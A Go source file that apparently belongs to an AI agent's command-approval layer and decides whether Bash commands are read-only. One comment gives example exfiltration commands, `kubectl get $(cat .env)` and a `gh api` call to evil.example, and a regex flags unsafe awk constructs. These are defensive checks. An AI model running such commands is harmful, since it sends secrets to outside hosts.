package bashparse

import (
	"strings"

	"github.com/agentctl/agentctl/internal/lazyre"
)

// Options configure ParseWith.
type Options struct {
	// Commands is the command table consulted for commands the core list
	// does not approve (nil: the core profile, Claude Code's list only).
	Commands *Table
	// Buffer, when it has room, holds Analysis.Commands: a caller that
	// decides many commands hands back the list of one it is done with
	// (a Command is half a kilobyte). Its contents are overwritten.
	Buffer []Command
}

// ParseWith analyses a Bash command string like Parse, consulting the
// options' command table for read-only forms. It is safe for concurrent use.
func ParseWith(src string, o Options) Analysis {
	return parseInto(src, o.Commands, o.Buffer)
}

// tableChecks are argument checks a table entry names for programs whose
// arguments are a language of their own (sed scripts, awk programs).
var tableChecks map[string]func([]string) bool

func init() {
	tableChecks = map[string]func([]string) bool{
		"sed": sedSafe, "awk": awkReadOnly, "find": findReadOnly,
		"tar-list": tarListReadOnly, "ps": psReadOnly, "sql-meta": sqlMeta,
		"no-file":    func(v []string) bool { return len(v) == 1 && !strings.Contains(v[0], "file") },
		"owner-repo": ownerRepo,
	}
}

// xargsInput stands for the operands xargs appends from its input: computed
// at run time, so a network command refuses them and a count limit sees them.
var xargsInput = []Word{{Value: "<xargs input>", Dynamic: true}, {Value: "<xargs input>", Dynamic: true}}

// tableDecision is what the table says about one command.
type tableDecision struct {
	ok    bool
	ref   TableRef
	files []File
}

// decide reads words (name first) as the table's entry for that name reads
// them: global options, the subcommand path, the options each level knows
// (an unknown one is never read-only), the operands. viaXargs means xargs
// appends operands read from its input.
func (t *Table) decide(words []Word, viaXargs bool) tableDecision {
	if t == nil || len(words) == 0 || !words[0].Static() {
		return tableDecision{}
	}
	n := t.clis[words[0].Value]
	if n == nil {
		return tableDecision{}
	}
	via := words[0].Value
	args := words[1:]
	if viaXargs {
		args = append(append([]Word(nil), args...), xargsInput...)
	}
	var files []File
	ops, dynamic, endOpts := 0, false, false
	remote := false // a word names a host (see hostword.go)
	var seen []string
	for i := 0; i < len(args); i++ {
		w := args[i]
		if n.check != nil {
			return n.finish(checkWords(n.check, args[i:]), anyDynamic(args[i:]) || dynamic || remote, files)
		}
		dynamic = dynamic || w.Dynamic
		v := w.Value
		if !endOpts && v == "--" {
			if len(n.children) > 0 {
				return tableDecision{}
			}
			endOpts = true
			continue
		}
		if !endOpts && len(v) > 1 && v[0] == '-' {
			if w.Dynamic {
				return tableDecision{}
			}
			word := v
			if n.goStyle && !strings.HasPrefix(v, "--") {
				word = "-" + v
			}
			if n.anyLong && n.param(word) {
				// A request parameter: --name, --name=value or --name value.
				val, eq := "", false
				if _, val, eq = strings.Cut(word, "="); !eq && i+1 < len(args) && !strings.HasPrefix(args[i+1].Value, "-") {
					i++
					val = args[i].Value
					dynamic = dynamic || args[i].Dynamic
				}
				if strings.Contains(val, "://") {
					return tableDecision{}
				}
				continue
			}
			sc := n.grammar.scan([]Word{{Value: word}})
			if sc.unsure || len(sc.opts) == 0 {
				return tableDecision{}
			}
			for k, o := range sc.opts {
				if o.name == "-NUM" {
					continue
				}
				info := n.opts[o.name]
				if info == nil || info.effect != EffectReadOnly {
					return tableDecision{}
				}
				seen = append(seen, o.name)
				val, has := o.value, o.hasValue
				if !has && info.kind == 2 && k == len(sc.opts)-1 {
					if i+1 >= len(args) || strings.HasPrefix(args[i+1].Value, "-") && args[i+1].Value != "-" {
						return tableDecision{}
					}
					i++
					dynamic = dynamic || args[i].Dynamic
					val, has = args[i].Value, true
				}
				remote = remote || has && valueNamesHost(val)
				if info.values != nil && (!has || !info.values[val]) || info.check != nil && (!has || !info.check([]string{val})) {
					return tableDecision{}
				}
				if info.file && has {
					files = append(files, tableFile(val, via))
				}
			}
			continue
		}
		if len(n.children)+len(n.patterns) > 0 && ops == 0 {
			if n.groups[v] && w.Static() && !endOpts {
				continue
			}
			c := n.child(v)
			if c == nil || !w.Static() || endOpts {
				return tableDecision{}
			}
			n, seen = c, nil
			continue
		}
		if refused(n.refuse, v) {
			return tableDecision{}
		}
		if n.effect == EffectRuns {
			inner := args[i:]
			if viaXargs {
				if len(inner) <= len(xargsInput) {
					return tableDecision{}
				}
				inner = inner[:len(inner)-len(xargsInput)]
			}
			return n.finish(t.innerReadOnly(inner), remote, files)
		}
		ops++
		remote = remote || valueNamesHost(v) || !n.plainOperands && operandNamesHost(v) || gitRemoteNamesHost(n.ref.Entry, v)
		if n.fileOps || n.firstFileOp && ops == 1 {
			files = append(files, tableFile(v, via))
			if w.Dynamic {
				files[len(files)-1].Dynamic = true
			}
		}
	}
	if n.check != nil {
		return n.finish(n.check(nil), dynamic || remote, files)
	}
	if ops > 0 && len(n.operandsNeed) > 0 && !hasAny(seen, n.operandsNeed) {
		return tableDecision{}
	}
	if n.effect != EffectReadOnly || n.maxOps >= 0 && ops > n.maxOps || !hasAny(seen, n.requires) {
		return tableDecision{}
	}
	return n.finish(true, dynamic || remote, files)
}

// finish applies what holds for every approval: the category is on, and a
// command that reaches a server carries no word computed at run time (a
// read-only query must not carry data out: `kubectl get $(cat .env)`) and
// no word naming a host of its own (`gh api https://evil.example/?d=…`).
func (n *tableNode) finish(ok, dynamic bool, files []File) tableDecision {
	if !ok || n.disabled || n.network && dynamic {
		return tableDecision{}
	}
	return tableDecision{ok: true, ref: n.ref, files: files}
}

// innerReadOnly decides the command xargs runs, with the operands it appends.
func (t *Table) innerReadOnly(inner []Word) bool {
	if len(inner) == 0 || !inner[0].Static() {
		return false
	}
	args := make([]string, 0, len(inner)+1)
	for _, w := range append(inner[1:], xargsInput...) {
		args = append(args, w.Value)
	}
	return IsReadOnly(inner[0].Value, args) || t.decide(inner, true).ok
}

func tableFile(p, via string) File {
	return File{Path: p, Access: Read, Via: via, Glob: strings.ContainsAny(p, "*?["),
		Tilde: strings.HasPrefix(p, "~"), Dynamic: p == xargsInput[0].Value}
}

func checkWords(f func([]string) bool, ws []Word) bool {
	args := make([]string, len(ws))
	for i, w := range ws {
		if w.Dynamic && strings.HasPrefix(w.Value, "-") {
			return false
		}
		args[i] = w.Value
	}
	return f(args)
}

func anyDynamic(ws []Word) bool {
	for _, w := range ws {
		if w.Dynamic {
			return true
		}
	}
	return false
}

// awkUnsafe matches what makes an awk program more than a filter: running
// commands, reading from them, writing files, its program from a file, or
// rewriting ARGV, the list of files it reads.
var awkUnsafe = lazyre.New(`system|getline|\||print[f]?[^;{}]*>|close|fflush|@load|@include|ARGV|ARGC`)

// awkReadOnly accepts `awk [-F SEP] [-v VAR=VALUE] 'PROGRAM' [FILE…]`
// whose program only filters and prints to standard output.
func awkReadOnly(args []string) bool {
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case a == "-F" || a == "-v":
			i++
		case strings.HasPrefix(a, "-F") || strings.HasPrefix(a, "-v"):
		case a == "--":
			return i+1 < len(args) && !awkUnsafe.MatchString(args[i+1])
		case strings.HasPrefix(a, "-"):
			return false // -f PROGFILE, -i, -l, -E and the rest
		default:
			return !awkUnsafe.MatchString(a)
		}
	}
	return false
}

// tableFiles consults the command table: a CLI the table knows is decided
// by its entry alone (stricter than the core list where they differ, e.g.
// git log --show-signature runs gpg); another command the core list does not
// approve is approved by a matching entry. When an entry approves, the
// command is read-only by it and the files the entry names are returned.
func (p *parser) tableFiles(c *Command) []File {
	if p.table == nil || len(c.Words) == 0 || len(c.Narrow.Assigns) > 0 || c.Narrow.DynamicName {
		return nil
	}
	if c.ReadOnly && p.table.clis[c.Narrow.Name] == nil {
		return nil
	}
	c.ReadOnly = false
	k := len(c.Words) - len(c.Narrow.Args) - 1
	if k < 0 || c.Words[k].Value != c.Narrow.Name {
		return nil
	}
	viaXargs := false
	for _, w := range c.Narrow.Peeled {
		viaXargs = viaXargs || w == "xargs"
	}
	d := p.table.decide(c.Words[k:], viaXargs)
	if !d.ok || !tableFormatsSafe(c.Narrow.Name, c.Narrow.Args) {
		return nil
	}
	c.ReadOnly, c.ReadOnlyBy = true, &d.ref
	return d.files
}

// param reports whether a long option word is a request parameter of a
// cloud CLI: a long option the entry does not name (nor abbreviates).
func (n *tableNode) param(word string) bool {
	if !strings.HasPrefix(word, "--") || word == "--" {
		return false
	}
	name, _, _ := strings.Cut(word[2:], "=")
	_, k := n.grammar.longKind(name)
	return k == 0 && !n.grammar.ambiguous(name)
}

func refused(refuse map[string]bool, v string) bool {
	if len(refuse) == 0 {
		return false
	}
	lower := strings.ToLower(v)
	for r := range refuse {
		if strings.HasPrefix(r, "~") && strings.Contains(lower, r[1:]) {
			return true
		}
	}
	for _, part := range strings.FieldsFunc(lower, func(r rune) bool { return r == ',' || r == '/' || r == '.' }) {
		if refuse[part] {
			return true
		}
	}
	return false
}

func hasAny(seen, want []string) bool {
	if len(want) == 0 {
		return true
	}
	for _, s := range seen {
		for _, w := range want {
			if s == w || "--"+strings.TrimLeft(w, "-") == s {
				return true
			}
		}
	}
	return false
}

// ambiguous reports whether name abbreviates several long options of g.
func (g optGrammar) ambiguous(name string) bool {
	c := 0
	for _, l := range g.long {
		if strings.HasPrefix(strings.TrimRight(l, "=?"), name) {
			c++
		}
	}
	return c > 1
}
